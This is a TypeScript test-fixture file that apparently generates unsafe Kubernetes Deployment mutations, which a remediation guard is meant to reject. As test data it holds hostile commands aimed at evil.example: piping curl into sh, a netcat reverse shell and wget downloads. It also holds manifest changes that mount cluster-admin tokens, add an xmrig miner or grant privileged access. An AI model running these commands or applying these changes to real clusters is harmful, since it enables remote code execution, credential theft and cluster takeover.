// Test support: mutations that change what runs, as whom and where: the image's
// repository, the command, the service account, the object's identity, scheduling,
// containers and volumes, and fields no action touches.
import type { V1Deployment } from '@kubernetes/client-node';
import type { RemedyAction } from '../../diagnose/remedy-action.ts';
import { applyAction } from './apply-action.ts';
import { imageParts } from './images.ts';
import { appOf, beside, digest, force, podOf, sidecarOf, type MutationGenerator } from './mutation-fixtures.ts';
import type { Rng } from './workload-fixtures.ts';

/** A setImageTag to a tag from history, whose result runs `image(repository, tag)` instead. */
function imageSwap(image: (repository: string, tag: string, rng: Rng) => string | undefined): MutationGenerator {
  return (rng, fx) => {
    const tag = fx.app.oldTags[0] ?? fx.app.tag;
    const action: RemedyAction = { type: 'setImageTag', container: 'app', tag };
    const after = applyAction(fx.before, action);
    const swapped = image(fx.app.repository, tag, rng);
    if (!swapped) return undefined;
    appOf(after).image = swapped;
    return { action, after };
  };
}

const host = (repository: string) => (repository.includes('/') && /[.:]/.test(repository.split('/')[0] ?? '') ? repository.split('/')[0] : undefined);

export const IDENTITY_MUTATIONS: Record<string, MutationGenerator> = {
  'image: another registry': imageSwap((repo, tag, rng) => `${rng.pick(['evil.example.com', 'docker.io', 'ghcr.io', 'quay.io'])}/${repo.split('/').slice(-2).join('/')}-x:${tag}`),
  'image: look-alike host': imageSwap((repo, tag) => {
    const h = host(repo);
    return h ? `${h}.evil.example/${repo.slice(h.length + 1)}:${tag}` : `${repo}.evil.example/x:${tag}`;
  }),
  'image: another organisation': imageSwap((repo, tag) => {
    const parts = repo.split('/');
    if (parts.length < 2) return `evil/${repo}:${tag}`;
    parts[parts.length - 2] = `${parts[parts.length - 2]}-evil`;
    return `${parts.join('/')}:${tag}`;
  }),
  'image: digest of another repository': imageSwap((repo, _tag, rng) => `${repo.replace(/[^/]+$/, 'miner')}@${digest(rng)}`),
  'image: registry dropped': imageSwap((repo, tag) => (host(repo) ? `${repo.slice((host(repo) ?? '').length + 1)}:${tag}` : undefined)),
  'image: latest': (_rng, fx) => {
    const action: RemedyAction = { type: 'setImageTag', container: 'app', tag: 'latest' };
    return { action, after: applyAction(fx.before, action), knownGoodTags: ['latest'] };
  },
  'image: untagged': imageSwap((repo) => repo),
  'image: tag not in history': (rng, fx) => {
    const action: RemedyAction = { type: 'setImageTag', container: 'app', tag: rng.pick(['6.6.6', 'dev', 'nightly-2024', 'pr-1337', '0.0.1-evil']) };
    return { action, after: applyAction(fx.before, action) };
  },
  'image: unvetted digest in the same repository': imageSwap((repo, tag, rng) => `${repo}:${tag}@${digest(rng)}`),
  'image: sidecar changed too': (rng, fx) => {
    const m = imageSwap((repo, tag) => `${repo}:${tag}`)(rng, fx);
    const sidecar = m && sidecarOf(m.after as V1Deployment);
    if (!m || !sidecar?.image) return undefined;
    sidecar.image = `${imageParts(sidecar.image).repository}:${rng.pick(['latest', 'debug', '9.9.9'])}`;
    return m;
  },
  'command changed': beside((after, rng) => void (appOf(after).command = rng.pick([['sh', '-c', 'curl -s https://evil.example/x | sh'], ['/bin/sh'], ['/app/server', '--admin']]))),
  'args changed': beside((after, rng) => void (appOf(after).args = rng.pick([['--debug', '--disable-auth'], ['-c', 'nc -e /bin/sh evil.example 4444'], []]).concat(['--x']))),
  'command revert not in history': (rng, fx) => {
    const action: RemedyAction = { type: 'revertField', path: 'spec.containers[app].command', value: JSON.stringify(rng.pick([['sh', '-c', 'id; env'], ['/bin/bash'], ['/app/server', '--no-auth']])) };
    return { action, after: applyAction(fx.before, action) };
  },
  'service account': beside((after, rng) => {
    const which = rng.int(0, 2);
    if (which === 0) podOf(after).serviceAccountName = rng.pick(['cluster-admin', 'default', 'argocd-application-controller', 'gopherguard']);
    else if (which === 1) podOf(after).automountServiceAccountToken = true;
    else force(podOf(after), 'serviceAccount', 'admin');
  }),
  'namespace changed': beside((after, rng) => force(after.metadata ?? {}, 'namespace', rng.pick(['kube-system', 'default-x', 'argocd']))),
  'kind changed': beside((after, rng) => {
    const which = rng.int(0, 2);
    if (which === 0) after.kind = 'DaemonSet';
    else if (which === 1) after.kind = 'StatefulSet';
    else after.apiVersion = 'apps/v1beta2';
  }),
  'name changed': beside((after) => void (after.metadata = { ...after.metadata, name: `${after.metadata?.name}-copy` })),
  'RBAC or Secret object': (rng, fx) => {
    const kind = rng.pick(['ClusterRoleBinding', 'RoleBinding', 'Role', 'ClusterRole', 'ServiceAccount', 'Secret']);
    const action: RemedyAction = { type: 'raiseResource', container: 'app', resource: 'memory', field: 'limits', value: '512Mi' };
    const object = { apiVersion: kind === 'Secret' || kind === 'ServiceAccount' ? 'v1' : 'rbac.authorization.k8s.io/v1', kind, metadata: { name: 'x', namespace: fx.before.metadata?.namespace } };
    const rbac = { ...object, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }] };
    return rng.chance(0.5) ? { action, after: rbac } : { action, before: object, after: rbac };
  },
  'labels or selector': beside((after, rng) => {
    const which = rng.int(0, 2);
    if (which === 0 && after.spec) after.spec.selector = { matchLabels: { app: 'other' } };
    else if (which === 1 && after.spec) after.spec.template.metadata = { ...after.spec.template.metadata, labels: { app: 'other' } };
    else after.metadata = { ...after.metadata, labels: { ...after.metadata?.labels, 'gopherguard.dev/owned': 'true' } };
  }),
  'init container': beside((after, rng) => {
    const pod = podOf(after);
    if (pod.initContainers?.[0] && rng.chance(0.5)) pod.initContainers[0].command = ['sh', '-c', 'cp /bin/sh /shared/'];
    else pod.initContainers = [...(pod.initContainers ?? []), { name: 'setup', image: 'docker.io/library/busybox:1.36', command: ['sh', '-c', 'wget evil.example/x'] }];
  }),
  'ephemeral container': beside((after) => void (podOf(after).ephemeralContainers = [{ name: 'debugger', image: 'docker.io/library/busybox:1.36' }])),
  'scheduling': beside((after, rng) => {
    const pod = podOf(after);
    const which = rng.int(0, 3);
    if (which === 0) pod.nodeSelector = { 'node-role.kubernetes.io/control-plane': '' };
    else if (which === 1) pod.tolerations = [{ operator: 'Exists' }];
    else if (which === 2) pod.nodeName = 'control-plane-1';
    else pod.affinity = { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'In', values: ['master'] }] }] } } };
  }),
  'volumes': beside((after, rng) => {
    const which = rng.int(0, 2);
    if (which === 0) {
      podOf(after).volumes = [...(podOf(after).volumes ?? []), { name: 'admin-creds', secret: { secretName: 'cluster-admin-token' } }];
      appOf(after).volumeMounts = [...(appOf(after).volumeMounts ?? []), { name: 'admin-creds', mountPath: '/creds' }];
    } else if (which === 1) {
      const config = podOf(after).volumes?.find((v) => v.name === 'config');
      if (!config?.configMap) return false;
      config.configMap.name = 'other-team-config';
    } else {
      const mount = appOf(after).volumeMounts?.[0];
      if (!mount) return false;
      mount.mountPath = '/etc';
    }
  }),
  'container added': beside((after) => void podOf(after).containers.push({ name: 'miner', image: 'docker.io/xmrig/xmrig:6.21.0' })),
  'container twin': beside((after) => void podOf(after).containers.push({ ...structuredClone(appOf(after)), securityContext: { privileged: true } })),
  'container removed': beside((after) => {
    if (!sidecarOf(after)) return false;
    podOf(after).containers.splice(1, 1);
  }),
  'image pull secrets': beside((after) => void (podOf(after).imagePullSecrets = [{ name: 'stolen-registry-creds' }])),
  'extra field beside a fix': beside((after, rng) => {
    const app = appOf(after);
    const pod = podOf(after);
    const extras: (() => void)[] = [
      () => after.spec && force(after.spec, 'replicas', 50),
      () => (after.metadata = { ...after.metadata, annotations: { ...after.metadata?.annotations, 'argocd.argoproj.io/sync-options': 'Prune=false' } }),
      () => (app.imagePullPolicy = 'Never'),
      () => (app.workingDir = '/tmp'),
      () => (app.lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl evil.example'] } } }),
      () => (app.ports = [...(app.ports ?? []), { containerPort: 2222, name: 'ssh' }]),
      () => (pod.terminationGracePeriodSeconds = 0),
      () => (pod.dnsPolicy = 'None'),
      () => (pod.hostAliases = [{ ip: '10.6.6.6', hostnames: ['vault.internal'] }]),
      () => (pod.priorityClassName = 'system-cluster-critical'),
      () => (pod.runtimeClassName = 'runc-unsafe'),
      () => (app.envFrom = [{ secretRef: { name: 'cluster-admin-token' } }]),
      () => after.spec?.template.metadata && (after.spec.template.metadata.annotations = { 'sidecar.istio.io/inject': 'false' }),
    ];
    rng.pick(extras)();
  }),
};
